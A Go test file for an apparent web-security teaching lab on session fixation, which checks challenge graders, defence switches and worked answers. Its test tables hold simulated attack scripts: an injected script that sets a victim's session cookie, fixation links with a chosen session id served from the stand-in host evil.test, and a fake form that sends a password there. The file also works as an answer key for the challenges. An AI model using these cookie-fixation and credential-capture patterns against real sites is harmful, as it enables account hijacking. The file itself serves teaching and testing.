package scenarios

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"fixlab/lab/ask"
	"fixlab/lab/defence"
	"fixlab/lab/event"
	"fixlab/lab/goal"
	"fixlab/lab/incident"
	"fixlab/lab/script"
)

func challengesOf(t *testing.T) []*script.Scenario {
	t.Helper()
	all, err := Challenges()
	if err != nil {
		t.Fatal(err)
	}
	return all
}

func challenge(t *testing.T, name string) *script.Scenario {
	t.Helper()
	s, err := Challenge(name)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// stepsOf reads a script as a challenge's file has it.
func stepsOf(t *testing.T, text string) []script.Step {
	t.Helper()
	steps, err := script.ParseSteps("answer", text)
	if err != nil {
		t.Fatal(err)
	}
	return steps
}

// judged is the verdict on a first try.
func judged(t *testing.T, s *script.Scenario, i int, a goal.Answer) goal.Verdict {
	t.Helper()
	a.Try = 1
	v, err := Judge(s, i, a, AnySeed)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// failing names the parts of v that do not hold.
func failing(v goal.Verdict) string {
	var parts []string
	for _, p := range v.Fails() {
		parts = append(parts, missed(p))
	}
	return strings.Join(parts, "; ")
}

// TestChallenges plays all that the challenges say: their want tables, their questions, the
// answers that win and those that do not; and holds their words to what a learner can read.
func TestChallenges(t *testing.T) {
	all := challengesOf(t)
	if len(all) != 12 {
		t.Errorf("%d challenges", len(all))
	}
	entries, err := files.ReadDir("challenges")
	if err != nil || len(entries) != len(all) {
		t.Errorf("%d files in challenges/, %v", len(entries), err)
	}
	for _, s := range all {
		if len(s.Wants) < 2 || s.Course == nil || s.Course.Goals == nil {
			t.Fatalf("%s: want a want table, a card and a goal", s.Name)
		}
		for _, w := range s.Wants {
			if _, err := Check(s, w); err != nil {
				t.Errorf("%s.txt:%d: %v", s.Name, w.Line, err)
			}
		}
		for _, m := range Mistakes(s) {
			t.Errorf("%s.txt:%d: %s", s.Name, m.Line, m.Says)
		}
		steps := slices.Clone(s.Steps)
		for _, x := range s.Course.Scripts {
			steps = append(steps, x.Steps...)
		}
		for _, step := range steps {
			where := fmt.Sprintf("%s.txt:%d", s.Name, step.Line)
			if step.Caption == "" {
				t.Errorf("%s: no caption", where)
			}
			plain(t, where, 20, step.Caption)
		}
		plain(t, s.Name, 20, s.Course.Goal, s.Course.Take)
		for _, g := range s.Course.Goals {
			where := fmt.Sprintf("%s.txt:%d", s.Name, g.Line)
			plain(t, where, 40, g.Say)
			plain(t, where, 40, g.Hints...)
			plain(t, where, 40, g.Why)
			for _, p := range g.Patches {
				plain(t, where, 20, p.Text)
			}
			for _, c := range g.Claims {
				atMost(t, where, c.Text, 20)
			}
		}
	}
	if _, err := Challenge("one-swich"); textOf(err) != `unknown challenge "one-swich", did you mean "one-switch"?` {
		t.Error(err)
	}
}

// TestOtherScripts: an answer wins by what it brings about, and is compared with no other.
func TestOtherScripts(t *testing.T) {
	for _, test := range []struct {
		name string
		goal int
		text string
		want string // what does not hold; "" when it wins
	}{
		{"make-it-happen", 0, "mallory get /\nmallory copy x\nmallory serve https://blog.shop.example/ <script>document.cookie=\"$cookie=$x; Domain=shop.example; Path=/\"</script>\nalice get https://blog.shop.example/\nalice get /login\nalice submit user=alice password=correct-horse\nmallory get /basket\n", ""},
		{"make-it-happen", 0, "mallory get /\nmallory copy loot\nmallory let link=https://shop.example/?sid=$$loot\nalice get $link\nalice post /login user=alice password=correct-horse\nmallory get /profile\n", ""},
		{"make-it-happen", 0, "mallory get /\nmallory copy loot\nmallory serve https://evil.test/ <a href=\"https://shop.example/?sid=$$loot\">Prize</a>\nalice get https://evil.test/\nalice click Prize\nalice post /login user=alice password=correct-horse\nmallory get /profile\nmallory get /profile\n",
			`"moves mallory <= 4" does not hold (step 8)`},
		{"make-it-happen", 0, "mallory get /\nmallory copy loot\nmallory@alice paste $cookie=$loot\nalice post /login user=alice password=correct-horse\nmallory get /profile\n", "not granted (step 3)"},
		{"make-it-happen", 0, "mallory get /\nmallory copy loot\nalice paste $cookie=$loot\nalice post /login user=alice password=correct-horse\nmallory forget\nmallory get /profile\n", "not granted (step 3); not granted (step 5); \"ends hijacked\" does not hold (step 6)"},
		{"make-it-happen", 0, "mallory post /login user=alice password=correct-horse\nmallory get /profile\n", `not granted (step 1); "ends hijacked" does not hold (step 1)`},
		{"make-it-happen", 0, "mallory get /\nmallory copy loot\nmallory serve https://blog.shop.example/ Set-Cookie: $cookie=$loot; Domain=shop.example; Path=/; Secure\nalice get https://blog.shop.example/\nalice post https://evil.test/ password=correct-horse\nalice post /login user=alice password=correct-horse\nmallory get /profile\n",
			`"typed alice shop.example" does not hold (step 5)`},
		{"get-in-anyway", 0, "mallory get /\nmallory copy loot\nmallory serve https://blog.shop.example/ Set-Cookie: $cookie=$loot; Domain=shop.example; Path=/signup; Secure\nalice get https://blog.shop.example/\nalice get /signup\nalice submit user=alice password=correct-horse\nmallory get /profile\n", ""},
		{"get-in-anyway", 0, "mallory get /\nmallory copy loot\nmallory serve https://evil.test/ <a href=\"https://shop.example/sso?sid=$$loot\">Come in</a>\nalice get https://evil.test/\nalice click Come in\nalice post /sso?sid=$$loot user=alice ticket=ticket-for-alice\nmallory get /profile\n", ""},
		{"get-in-anyway", 0, "mallory get /\nmallory copy loot\nmallory serve https://evil.test/ <form method=\"post\" action=\"https://evil.test/in\"><input name=\"user\"><input name=\"ticket\"></form>\nalice get https://evil.test/\nalice submit user=alice ticket=ticket-for-alice\nmallory post /sso user=alice ticket=ticket-for-alice\nmallory get /profile\n",
			`not granted (step 6); "ends hijacked" does not hold (step 6); "typed alice shop.example" does not hold (step 5)`},
		{"test-the-article", 0, "mallory post /signup user=quill password=q\nalice post /login user=alice password=correct-horse\nmallory get /profile\n", ""},
		{"test-the-article", 0, "alice post /login user=alice password=correct-horse\nmallory get /profile\n", `"ends hijacked|hijacked-with-account" does not hold (step 2)`},
		{"test-the-article", 0, "mallory post /login user=mallory password=hunter2\nmallory copy x\nalice post /login user=alice password=correct-horse\nmallory get /profile\n", ""},
		{"test-the-article", 0, "mallory get /login\nmallory submit user=mallory password=hunter2\nalice get /login\nalice submit user=alice password=correct-horse\nmallory get /profile\n", ""},
		{"test-the-article", 0, "mallory serve https://evil.test/ x\nmallory post /login user=mallory password=hunter2\nalice post /login user=alice password=correct-horse\nmallory get /profile\n", "not granted (step 1)"},
		{"test-the-article", 1, "mallory let x=chosen\nmallory paste $cookie=$x\nmallory post /login user=mallory password=hunter2\n", ""},
		{"test-the-article", 1, "mallory paste $cookie=other\nmallory post /login user=mallory password=hunter2\n", `"signed chosen" does not hold`},
		{"test-the-article", 1, "mallory get /\nmallory get /\nmallory paste $cookie=chosen\nmallory post /login user=mallory password=hunter2\nmallory copy loot\n", `"moves mallory <= 4" does not hold (step 5)`},
	} {
		s := challenge(t, test.name)
		v := judged(t, s, test.goal, goal.Answer{Steps: stepsOf(t, test.text)})
		if got := failing(v); got != test.want || v.Wins() != (test.want == "") {
			t.Errorf("%s\n%s got %q\nwant %q", test.name, test.text, got, test.want)
		}
	}
}

// TestLockedSwitches: in a script challenge no switch can be thrown, and in a challenge of
// switches no step can be changed.
func TestLockedSwitches(t *testing.T) {
	s := challenge(t, "make-it-happen")
	a, err := goal.Worked(&s.Course.Goals[0], Ground(s, ""))
	if err != nil || !judged(t, s, 0, a).Wins() {
		t.Fatal(err, failing(judged(t, s, 0, a)))
	}
	a.On = defence.HTTPOnly
	if got := failing(judged(t, s, 0, a)); got != "not granted: httponly" {
		t.Errorf("%q", got)
	}
	s = challenge(t, "one-switch")
	if got := failing(judged(t, s, 0, goal.Answer{On: defence.Rotate, Steps: stepsOf(t, "alice get /\n")})); got != "not granted (step 1)" {
		t.Errorf("%q", got)
	}
	s = challenge(t, "decoys")
	if got := failing(judged(t, s, 0, goal.Answer{On: defence.Flush})); got != "not granted: flush" {
		t.Errorf("%q", got)
	}
	s = challenge(t, "fix-it")
	for patch, want := range map[string]bool{"A": false, "B": false, "C": false, "D": true, "": false, "E": false} {
		if v := judged(t, s, 0, goal.Answer{Patch: patch, On: defence.Rotate}); v.Wins() != want {
			t.Errorf("patch %q: %q", patch, failing(v))
		}
	}
}

// TestWinners: of all single switches, these win.
func TestWinners(t *testing.T) {
	for _, test := range []struct {
		name string
		goal int
		want string
	}{
		{"one-switch", 0, "rotate flush bind-address bind-device"},
		{"keep-the-basket", 0, "rotate framework-login"},
		{"decoys", 0, "rotate"},
		{"test-the-article", 2, "rotate flush strict"},
		{"the-cookie-that-will-not-leave", 0, "host-prefix host-http-prefix domain-cookie"},
		{"step-up", 0, "rotate"},
	} {
		s := challenge(t, test.name)
		at := Ground(s, "")
		var won []string
		for _, info := range defence.All {
			v, err := goal.Judge(&s.Course.Goals[test.goal], goal.Answer{On: info.Set}, at)
			if err != nil {
				t.Fatal(err)
			}
			if v.Wins() {
				won = append(won, info.Name)
			}
		}
		if got := strings.Join(won, " "); got != test.want {
			t.Errorf("%s: %s, want %s", test.name, got, test.want)
		}
	}
}

// TestMinimal: of all sets of the decoys, one wins, and of what can be left out the part
// that does not hold has all.
func TestMinimal(t *testing.T) {
	s := challenge(t, "decoys")
	g, at := &s.Course.Goals[0], Ground(s, "")
	start, _, err := script.ParseRow(g.Row())
	if err != nil {
		t.Fatal(err)
	}
	for sub := start; ; sub = (sub - 1) & start {
		v, err := goal.Judge(g, goal.Answer{On: sub}, at)
		if err != nil {
			t.Fatal(err)
		}
		if v.Wins() != (sub == defence.Rotate) {
			t.Errorf("%s: %q", sub, failing(v))
		}
		if last := v[len(v)-1]; sub.Has(defence.Rotate) && (last.Kind != goal.Minimal || last.Off != sub&^defence.Rotate) {
			t.Errorf("%s: %s can be left out", sub, last.Off)
		}
		if sub == 0 {
			break
		}
	}
}

// TestPointing: of all pairs of a step and a line two win, that of the switch that rotates and
// that of the one that flushes, and only in the first two tries.
func TestPointing(t *testing.T) {
	s := challenge(t, "point-at-the-cause")
	g, at := &s.Course.Goals[0], Ground(s, "")
	tr, err := at.Play(nil, "none")
	if err != nil {
		t.Fatal(err)
	}
	steps, lines := ask.Candidates(tr, script.PointStep), ask.Candidates(tr, script.PointCode)
	won, judgedAll := 0, 0
	for _, step := range steps {
		for _, line := range lines {
			judgedAll++
			for try, in := range map[int]bool{1: true, 2: true, 3: false} {
				v, err := goal.Judge(g, goal.Answer{Points: []ask.Place{step, line}, Try: try}, at)
				if err != nil {
					t.Fatal(err)
				}
				if v.Wins() && !in {
					t.Errorf("try %d wins", try)
				}
				if v.Wins() && in {
					won++
				}
				if p := v[2]; p.Kind != goal.Pointed || p.Holds != (step.Frame == 6) || p.Says == "" || p.Frame != step.Frame {
					t.Errorf("step %d: %+v", step.Frame+1, p)
				}
			}
		}
	}
	if won != 4 || judgedAll < 50 {
		t.Errorf("%d of %d pairs win", won, judgedAll)
	}
	if v := judged(t, s, 0, goal.Answer{Points: []ask.Place{{Frame: 6, Seq: -1}}}); v.Wins() || v[2].Holds == false {
		t.Errorf("a step alone: %q", failing(v))
	}
}

// TestJudgedClaims: of sixteen judgements one wins, and not without the runs that show it.
func TestJudgedClaims(t *testing.T) {
	s := challenge(t, "nothing-to-rotate")
	g, at := &s.Course.Goals[0], Ground(s, "")
	rows := []string{"none", "none@django-db", "rotate-secret@django-db", "framework-login@django-db"}
	right := []bool{false, true, false, true}
	for n := range 16 {
		var a goal.Answer
		same := true
		for i, row := range rows {
			is := n&(1<<i) != 0
			same = same && is == right[i]
			a.Claims = append(a.Claims, goal.Claimed{True: is, Row: row})
		}
		if v := judged(t, s, 0, a); v.Wins() != same {
			t.Errorf("%+v: %q", a.Claims, failing(v))
		}
	}
	for _, test := range []struct {
		row  string
		want bool
	}{
		{"none@django-db", true}, {"none@django-db+xss", true}, {"none@django-db+xss+firefox", true},
		{"", false}, {"none", false}, {"none@flask", false}, {"strict@django-db", false}, {"none@django-db+cross-site", false}, {"rotate@django-db", false},
	} {
		a, err := goal.Worked(g, at)
		if err != nil {
			t.Fatal(err)
		}
		a.Claims[1].Row = test.row
		v := judged(t, s, 0, a)
		want := ""
		if !test.want {
			want = "a run that does not show it"
		}
		if got := failing(v); !strings.HasPrefix(got, want) || v.Wins() != test.want {
			t.Errorf("%q: %q", test.row, got)
		}
	}
	if v := judged(t, s, 0, goal.Answer{Claims: []goal.Claimed{{Row: "none"}}}); v.Wins() || len(v.Fails()) != 6 {
		t.Errorf("one claim of four: %q", failing(v))
	}
	if _, err := Judge(s, 0, goal.Answer{Claims: []goal.Claimed{{Row: "rotten"}}}, ""); err == nil {
		t.Error("a row that is none")
	}
}

// TestIncident: the fixated sessions of a learner's own log win, in two tries, and neither
// less nor more nor those of a neighbour's.
func TestIncident(t *testing.T) {
	s := challenge(t, "ten-minute-incident")
	g := &s.Course.Goals[0]
	wins := func(seed string, try int, revoked ...string) bool {
		v, err := Judge(s, 0, goal.Answer{Revoked: revoked, Try: try}, seed)
		if err != nil {
			t.Fatal(err)
		}
		return v.Wins()
	}
	neighbours, copied := 0, 0
	for n := range 12 {
		seed, other := fmt.Sprint("nonce ", n), fmt.Sprint("nonce ", n+1)
		in := incident.New(seed)
		fixated := in.Fixated()
		var rows []string
		for _, r := range in.Rows {
			rows = append(rows, r.Session)
		}
		if !wins(seed, 1, fixated...) || !wins(seed, 2, fixated...) || wins(seed, 3, fixated...) {
			t.Errorf("%s: %q", seed, fixated)
		}
		if wins(seed, 1) || wins(seed, 1, rows...) || wins(seed, 1, fixated[1:]...) {
			t.Errorf("%s: less or more wins", seed)
		}
		neighbours++
		if wins(seed, 1, incident.New(other).Fixated()...) {
			copied++
		}
	}
	if copied > neighbours/4 {
		t.Errorf("the answer of %d of %d neighbours wins", copied, neighbours)
	}
	v, err := goal.Judge(g, goal.Answer{Revoked: []string{"s1"}, Try: 1}, goal.Ground{Challenge: s, Fixated: []string{"s1", "s2"}})
	if err != nil || failing(v) != `"revokes every" does not hold` {
		t.Errorf("%q, %v", failing(v), err)
	}
}

// TestSuites: the ways in are those by which somebody comes into an account that is not
// hers, on that server; the journeys are those that can be made there.
func TestSuites(t *testing.T) {
	named := func(s *script.Scenario, suite string) string {
		t.Helper()
		trips, err := Ground(s, "").Suite(suite, nil)
		if err != nil {
			t.Fatal(err)
		}
		var names []string
		for _, trip := range trips {
			names = append(names, trip.Name)
		}
		return strings.Join(names, " ")
	}
	s := challenge(t, "fix-it")
	ways := named(s, script.SuiteWays)
	for _, route := range Routes {
		tr, err := Rows(s)("none@" + route.Name)
		if err != nil {
			t.Fatal(err)
		}
		open := tr.Verdict.Outcome.Hijack() || tr.Verdict.Outcome == event.Trapped
		if slices.Contains(strings.Fields(ways), "@"+route.Name) != open {
			t.Errorf("%s: %s", route.Name, tr.Verdict.Outcome)
		}
	}
	if n := len(strings.Fields(ways)); n < 10 || n == len(Routes) {
		t.Errorf("%d ways: %s", n, ways)
	}
	for _, test := range []struct{ name, suite, want string }{
		{"get-in-anyway", "S", "@login-csrf"}, // its own server makes a new id
		{"keep-the-basket", "S", "@header-injection @xss @xss-path @xss-overflow @sibling-https @sibling-script @sibling-http @network-redirect @network-subdomain @shared-computer @shared-cache @login-csrf @unicode-prefix"},
		{"keep-the-basket", "J", "day wrong-password two-tabs"},
		{"test-the-article", "J", "wrong-password two-tabs"}, // it keeps no basket
		{"one-switch", "@xss+own", "@xss+own"},
	} {
		if got := named(challenge(t, test.name), test.suite); got != test.want {
			t.Errorf("%s, %s: %s, want %s", test.name, test.suite, got, test.want)
		}
	}
}

// TestJourneys: Alice is served in all of them where login is done well, and what breaks
// her day is found.
func TestJourneys(t *testing.T) {
	s := challenge(t, "one-switch")
	trips, err := Ground(s, "").Suite(script.SuiteJourneys, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, test := range []struct {
		on   defence.Set
		want string // the journeys that fail
	}{
		{0, ""}, {defence.Rotate, ""}, {defence.Flush, ""}, {goal.Everything(), ""}, {defence.KeepAtLogout, ""},
		{defence.Flush | defence.UserFirst, "day wrong-password two-tabs"},
	} {
		var failed []string
		for _, trip := range trips {
			tr, err := trip.Play(test.on)
			if err != nil {
				t.Fatal(err)
			}
			if ok, err := ask.Holds(trip.Need, tr, nil); err != nil || !ok {
				failed = append(failed, trip.Name)
			}
		}
		if got := strings.Join(failed, " "); got != test.want {
			t.Errorf("%s: %q fail, want %q", test.on, got, test.want)
		}
	}
}

// TestParts: a part that does not hold names its term, its run and the step.
func TestParts(t *testing.T) {
	s := challenge(t, "fix-it")
	v := judged(t, s, 0, goal.Answer{Patch: "B"})
	suites := map[string]int{}
	for _, p := range v {
		suites[p.Suite]++
		if p.Kind == goal.Needed && (p.Trace == nil || p.Frame >= len(p.Trace.Frames) || (p.Suite == "") != (p.Run == "")) {
			t.Errorf("%+v", p)
		}
		if p.Suite == script.SuiteWays && p.Holds != (p.Run == "@login-csrf") {
			t.Errorf("%s: %v", p.Run, p.Holds)
		}
		if p.Run == "@xss" && (p.Frame != p.Trace.Verdict.Frame || p.Trace.Scenario.Route != "xss" || p.Term.String() != "not ends hijacked|hijacked-with-account|broken") {
			t.Errorf("%+v", p)
		}
	}
	if suites[""] != 2 || suites[script.SuiteWays] < 10 || suites[script.SuiteJourneys] < 9 {
		t.Errorf("%v", suites)
	}
	s = challenge(t, "test-the-article")
	v = judged(t, s, 2, goal.Answer{On: defence.HTTPOnly})
	if got := failing(v); got != `"script shared: not ends hijacked|hijacked-with-account" does not hold in shared (step 2); "script signed: not signed chosen" does not hold in signed (step 2)` {
		t.Errorf("%q", got)
	}
	s = challenge(t, "keep-the-basket")
	if got := failing(judged(t, s, 0, goal.Answer{On: defence.Rotate | defence.KeepOldRecord})); !strings.Contains(got, `"gone $loot" does not hold (step 8)`) || strings.Contains(got, "basket") {
		t.Errorf("%q", got)
	}
	if got := failing(judged(t, s, 0, goal.Answer{On: defence.Flush})); got != `"shown basket=ring at does alice get /basket" does not hold (step 7)` {
		t.Errorf("%q", got)
	}
}

// TestMistold: a goal that says something untrue of an answer is found.
func TestMistold(t *testing.T) {
	text := func(name string) string {
		b, err := files.ReadFile("challenges/" + name + ".txt")
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	for _, test := range []struct{ name, old, new, want string }{
		{"one-switch", "solve: rotate", "solve: strict", `the worked solution does not win: "ends defended|not-applicable" does not hold (step 5)`},
		{"one-switch", "also: flush", "also: lazy", `lazy does not win: "ends defended|not-applicable" does not hold in @own`},
		{"one-switch", "fails: lazy", "fails: bind-address", "bind-address wins as well"},
		{"one-switch", ", switches <= 1", "", "everything wins as well"},
		{"make-it-happen", "fails: rotate", "fails: httponly", "httponly wins as well"},
		{"make-it-happen", "mallory <= 4", "mallory <= 3", `the worked solution does not win: "moves mallory <= 3" does not hold (step 6)`},
		{"make-it-happen", "mallory get click copy serve let", "mallory get click serve let", `the worked solution does not win: not granted (step 2)`},
		{"make-it-happen", "need: ends hijacked, moves", "need: moves", "start none wins as well"},
		{"get-in-anyway", "fails: only rotate", "fails: only rotate+forgotten-path", "only rotate+forgotten-path wins as well"},
		{"fix-it", "solve: rotate", "solve: flush", "the worked solution does not win: not granted"},
		{"fix-it", "D = rotate :", "D = lazy :", "the worked solution does not win: not granted: rotate"},
		{"decoys", "fails: rotate+strict\n", "also: rotate+strict\n", "rotate+strict does not win: can be left out: strict"},
		{"ten-minute-incident", "revokes every, ", "", "start none wins as well"},
	} {
		before := text(test.name)
		after := strings.Replace(before, test.old, test.new, 1)
		if after == before {
			t.Errorf("%s has no %q", test.name, test.old)
		}
		s, err := Parse(test.name, after)
		if err != nil {
			t.Errorf("%s: %v", test.new, err)
			continue
		}
		found := Mistakes(s)
		if len(found) == 0 || !slices.ContainsFunc(found, func(m Mistake) bool { return strings.HasPrefix(m.Says, test.want) && m.Line > 0 }) {
			t.Errorf("%s, %s: %+v, want %q", test.name, test.new, found, test.want)
		}
	}
}
